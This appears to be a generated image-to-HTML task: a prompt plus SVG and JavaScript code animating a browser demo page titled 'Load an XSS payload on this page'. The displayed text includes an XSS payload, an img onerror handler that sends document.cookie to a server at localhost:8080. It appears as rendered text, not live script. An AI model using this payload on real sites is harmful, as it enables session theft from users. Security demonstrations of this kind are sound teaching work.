
Write an HTML page that moves like this. It is 898 px wide and 624 px high and loops after 8 s.

```html
<!DOCTYPE html>
<html lang="en">
<head>
<meta charset="utf-8">
<title>Example</title>
<style>
html, body { margin: 0; width: 100%; height: 100%; overflow: hidden; background: #fff; }
svg { display: block; width: 100vw; height: 100vh; }
text { font-family: Roboto, Inter, sans-serif; font-size: 11px; fill: #000; white-space: pre; }
.serif text { font-family: "Liberation Serif", "Times New Roman", serif; font-size: 15.4px; stroke: #000; stroke-width: .2px; }
.serif .h1 { font-size: 30.8px; font-weight: bold; }
.serif .link { fill: #0a2fe8; stroke: #0a2fe8; text-decoration: underline; text-decoration-skip-ink: none; }
.serif.small text { font-size: 12.35px; }
.serif.small .h1 { font-size: 24.6px; }
.area { letter-spacing: .16px; stroke: #000; stroke-width: .12px; }
.url { letter-spacing: .21px; fill: #b3b3b3; }
.url .host { fill: #fff; }
.tab { font-size: 9.5px; letter-spacing: .1px; fill: #f8f8f8; }
.title { font-size: 10px; letter-spacing: .17px; fill: #b0b0b0; text-anchor: middle; }
.tiny text { font-size: 8.8px; }
.status { font-size: 9px; letter-spacing: .08px; fill: #fff; stroke: #fff; stroke-width: .2px; }
.box { fill: #fff; stroke: #c4c4c4; }
.edge { fill: #fff; stroke: #999; }
.icon { fill: none; stroke: #f1f1f1; stroke-width: 1.5; }
.thin { fill: none; stroke: #e4e4e4; stroke-width: 1.1; }
</style>
</head>
<body>
<svg viewBox="0 0 898 624" xmlns="http://www.w3.org/2000/svg">
  <defs>
    <linearGradient id="fade" gradientUnits="userSpaceOnUse" x1="202" y1="0" x2="218" y2="0">
      <stop offset="0" stop-color="#f8f8f8"/>
      <stop offset="1" stop-color="#f8f8f8" stop-opacity="0"/>
    </linearGradient>
    <clipPath id="tabClip"><rect x="80" y="5" width="137" height="22"/></clipPath>
    <path id="grip" d="M-6.5 0L0 -6.5M-3 0L0 -3" fill="none" stroke="#888" stroke-width=".9"/>
  </defs>

  <rect width="898" height="624" fill="#fefefe"/>

  <!-- window chrome -->
  <rect width="898" height="28" fill="#202124"/>
  <rect y="27" width="898" height="28" fill="#515151"/>
  <rect y="54" width="898" height="1" fill="#3b3b3b"/>
  <path d="M54 27.5C58 27 58.500 24 60 20L64 9Q65.500 5 68 5H227Q230 5 231.500 9L236 21Q238 27 242 27.500Z" fill="#515151"/>
  <path d="M242 11H257Q259 11 260 13L263 20Q264 22 262 22H248Q246 22 245 20L241.500 13Q241 11 242 11Z" fill="#434343"/>
  <circle cx="13" cy="13.300" r="4.700" fill="#fa534f"/>
  <circle cx="28.500" cy="13.300" r="4.700" fill="#fdb92a"/>
  <circle cx="44" cy="13.300" r="4.700" fill="#2ec638"/>
  <path class="thin" d="M221.800 13.300L227.400 18.900M227.400 13.300L221.800 18.900"/>
  <g fill="#f1f1f1">
    <path d="M882.300 10L883.400 6.500Q884 5.700 885 6.200L886 6.500L887 6.200Q888.200 5.700 888.600 6.500L889.700 10Z"/>
    <rect x="880" y="10.800" width="12" height="1.300"/>
  </g>
  <path class="thin" d="M885 15.700Q886 15 887 15.700"/>
  <circle class="thin" cx="883" cy="16" r="2.100"/>
  <circle class="thin" cx="889" cy="16" r="2.100"/>

  <!-- tab icon and title -->
  <g data-on="0-2370 2660-8000">
    <path class="thin" d="M69.500 11H74L77 14V21H69.500ZM74 11V14H77"/>
  </g>
  <path class="thin" data-on="2370-2520" d="M73 11.400L75 11.700"/>
  <path class="thin" data-on="2520-2660" d="M73 11.400A4.700 4.700 0 0 0 68.900 13.800"/>
  <text class="tab" x="83.700" y="19.300" data-on="0-2660">Example</text>
  <g clip-path="url(#tabClip)" data-on="2660-8000">
    <text class="tab" x="83.700" y="19.300" style="fill:url(#fade)">localhost:8000/?msg=&lt;img src=x</text>
  </g>

  <!-- toolbar -->
  <path class="icon" d="M18.500 41H8.500M13 36.300L8.300 41L13 45.700"/>
  <path class="icon" id="next" d="M29.500 41H39.500M35 36.300L39.700 41L35 45.700"/>
  <g data-on="0-2370 2660-8000">
    <path class="icon" d="M60 38.600A4.700 4.700 0 1 0 60.800 42.200"/>
    <path d="M61.600 35.800V40.400H57Z" fill="#f1f1f1"/>
  </g>
  <path class="icon" data-on="2370-2660" d="M52 36.800L60.400 45.200M60.400 36.800L52 45.200"/>
  <rect x="70.500" y="31.500" width="780" height="19" rx="2" fill="#636363" stroke="#484848"/>
  <circle class="thin" cx="80.700" cy="41" r="5"/>
  <path class="thin" d="M80.700 40V44M80.700 37.800V39"/>
  <text class="url" x="90.500" y="44.800" data-on="0-2370"><tspan class="host">localhost</tspan>:8000/?msg=Hello%20&lt;b&gt;world&lt;/b&gt;%20!</text>
  <text class="url" x="90.500" y="44.800" data-on="2370-8000"><tspan class="host">localhost</tspan>:8000/?msg=&lt;img%20src=x%20onerror="document.head.innerHTML=`&lt;link%20rel=stylesheet%20href=%27//localhost:8080/?`+d...</text>
  <circle class="icon" cx="817.500" cy="40" r="3.700"/>
  <path class="icon" d="M820.300 42.800L824 46.300"/>
  <path class="thin" d="M815.700 40H819.300M817.500 38.200V41.800"/>
  <path class="thin" d="M839.500 35.800L841 39.300L844.800 39.600L841.900 42.100L842.800 45.800L839.500 43.800L836.200 45.800L837.100 42.100L834.200 39.600L838 39.300Z"/>
  <circle cx="865" cy="41" r="4.800" fill="#b01219"/>
  <g fill="#f1f1f1">
    <circle cx="886.500" cy="37" r="1.200"/>
    <circle cx="886.500" cy="41" r="1.200"/>
    <circle cx="886.500" cy="45" r="1.200"/>
  </g>

  <!-- page -->
  <g class="serif">
    <text class="link" x="7" y="77">Load an XSS payload on this page</text>
    <text x="7" y="110">Username:</text>
    <text class="h1" x="7.500" y="164">Welcome, Owner</text>
    <text x="7" y="425" data-on="0-2370">Message: Hello <tspan font-weight="bold">world</tspan> !</text>
    <text x="7" y="425" data-on="2370-2520">Message:</text>
    <text x="7" y="426.500" data-on="2520-8000">Message:</text>
  </g>
  <g data-on="2520-8000">
    <path d="M69.500 411.500H80L84.500 416V420L78.500 426H69.500Z" fill="#cfdff8" stroke="#a8a8a8"/>
    <path d="M70.500 425V422.500Q74 418 79.500 421.500L76.500 425Z" fill="#4fa953"/>
    <path d="M80 411.500V416H84.500Z" fill="#fff" stroke="#a8a8a8" stroke-width=".8"/>
    <path d="M80.500 426.500H84.500V422.500Z" fill="#b9d6b3"/>
    <ellipse cx="74" cy="415.500" rx="2.200" ry="1.400" fill="#fff"/>
  </g>
  <rect class="box" x="78" y="97.500" width="117" height="17.500"/>
  <path d="M78 97.500H195" stroke="#a5a5a5"/>
  <text x="80.500" y="110">Owner</text>
  <rect class="box" x="195.500" y="98.500" width="45" height="16.500"/>
  <text x="203" y="110">Log in</text>
  <rect class="edge" x="7" y="192" width="294.500" height="198"/>
  <use href="#grip" x="300" y="388.500"/>
  <text class="area" x="9.700" y="205" data-on="0-2370">Hello &lt;b&gt;world&lt;/b&gt; !</text>
  <g class="area" data-on="2370-8000">
    <text x="9.700" y="205">&lt;img src=x onerror="document.head.innerHTML=`&lt;link</text>
    <text x="9.700" y="217">rel=stylesheet href='//localhost:8080/?</text>
    <text x="9.700" y="229">`+document.cookie+`'&gt;`"&gt;</text>
  </g>
  <rect class="box" x="305.500" y="378" width="53" height="17.500"/>
  <text x="312.800" y="390.200">Preview</text>

  <!-- second window -->
  <rect x="402" y="246" width="470" height="352.500" rx="28" fill="#e6e6e6"/>
  <rect x="409.500" y="251" width="455" height="340.500" rx="14" fill="#d3d3d3"/>
  <rect x="410.500" y="248" width="453" height="335.500" rx="4" fill="#fefefe" stroke="#b9b9b9"/>
  <path d="M411 265.200H863" stroke="#d2d2d2"/>
  <g fill="#d5d5d5" stroke="#c9c9c9" stroke-width=".6">
    <circle cx="421.600" cy="257" r="4.600"/>
    <circle cx="437" cy="257" r="4.600"/>
    <circle cx="452.400" cy="257" r="4.600"/>
  </g>
  <text class="title" x="637" y="261" data-on="0-2660">Browser</text>
  <text class="title" x="637" y="261" data-on="2660-8000">Example</text>
  <g data-on="2810-8000">
    <g class="serif small">
      <text class="link" x="417" y="282.700">Load an XSS payload on this page</text>
      <text x="417" y="309">Username:</text>
      <text class="h1" x="417.300" y="351">Welcome, Owner</text>
      <text x="417" y="559.700">Message:</text>
    </g>
    <rect class="box" x="473.500" y="298" width="100.500" height="14"/>
    <rect class="box" x="574.500" y="298.700" width="36" height="13.300" rx="3"/>
    <rect class="edge" x="417.300" y="374.300" width="235" height="158"/>
    <use href="#grip" x="651.500" y="531"/>
    <rect class="box" x="656" y="522.700" width="43" height="13.300" rx="3"/>
    <g class="tiny">
      <text x="475.800" y="308.600">Owner</text>
      <text x="580.300" y="308.600">Log in</text>
      <text x="661.800" y="532.600">Preview</text>
    </g>
  </g>

  <!-- link address bubble -->
  <g id="status">
    <path d="M0 609H297Q299.700 609 299.700 612V622H0Z" fill="#4a4a4a"/>
    <text class="status" x="2" y="618.900">localhost:8000/?msg=&lt;img src=x onerror="document.head.innerHTML...</text>
  </g>
  <rect y="622.500" width="898" height="1.500" fill="#717171"/>

  <!-- pointer -->
  <g id="pointer">
    <path data-on="0-1480" d="M1.300 1.500V11.800L3.700 9.700L5.400 13.600L7.300 12.800L5.600 8.900H8.800Z" fill="#000" stroke="#fff" stroke-width="1.600" paint-order="stroke" stroke-linejoin="round"/>
    <g data-on="1480-8000" stroke="#000" stroke-linejoin="round">
      <path d="M3.800 8.500L2.600 2.200Q2.700 .7 4 1.200L5.300 5.300Q6.200 4.600 7 5.300Q8 4.700 8.600 5.700Q9.800 5.200 10.300 6.500L10.600 9.500L9.500 13.300H4.700L1 8.800Q.7 7.300 2.200 7.500Z" fill="#fff"/>
      <path d="M5.300 5.300L5.700 7.300M7 5.400L7.300 7.300M8.700 5.900L8.900 7.500" fill="none" stroke-width=".8"/>
    </g>
  </g>
</svg>
<script>
const LOOP = 8000;
const el = id => document.getElementById(id);

// [start ms, x, y]
const path = [
  [0, 25.2, 132.5], [750, 26.9, 127.5], [890, 35, 120.8], [1040, 43, 112.8],
  [1190, 52, 95], [1330, 61, 86], [1480, 77.3, 78.8], [1630, 86, 73.7], [1780, 92, 69.5]
];
// [start ms, opacity]
const bubble = [[0, 0], [1630, .5], [1780, 1], [2660, .27], [2810, 0]];

const parts = [...document.querySelectorAll("[data-on]")].map(node => ({
  node,
  spans: node.dataset.on.split(" ").map(s => s.split("-").map(Number))
}));

const at = (steps, t) => steps.filter(s => s[0] <= t).pop();

function draw(t) {
  for (const { node, spans } of parts) {
    const on = spans.some(([a, b]) => t >= a && t < b);
    node.style.display = on ? "" : "none";
  }
  const [, x, y] = at(path, t);
  el("pointer").setAttribute("transform", `translate(${x} ${y})`);
  el("status").setAttribute("opacity", at(bubble, t)[1]);
  el("next").style.stroke = t < 2370 ? "#f1f1f1" : "#757575";
}

const start = performance.now();
function tick() {
  draw(Math.max(0, performance.now() - start) % LOOP);
  requestAnimationFrame(tick);
}
draw(0);
requestAnimationFrame(tick);
</script>
</body>
</html>
```
